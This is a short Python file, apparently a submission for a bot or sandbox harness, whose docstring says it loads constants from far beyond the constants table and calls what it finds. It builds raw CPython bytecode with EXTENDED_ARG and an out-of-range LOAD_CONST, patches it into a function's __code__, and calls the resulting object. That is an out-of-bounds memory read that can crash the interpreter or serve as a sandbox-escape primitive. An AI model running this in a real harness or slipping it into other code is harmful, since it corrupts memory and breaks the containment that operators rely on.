"""Loads constants from far beyond the table of constants, and calls what it finds there."""

import dis


def victim():
    return None


def bot_main(data):
    extended, load, value = dis.opmap["EXTENDED_ARG"], dis.opmap["LOAD_CONST"], dis.opmap["RETURN_VALUE"]
    code = bytes([dis.opmap["RESUME"], 0, extended, 0x7F, extended, 0xFF, load, 0xFF, value, 0])
    victim.__code__ = victim.__code__.replace(co_code=code)
    return [victim()()]
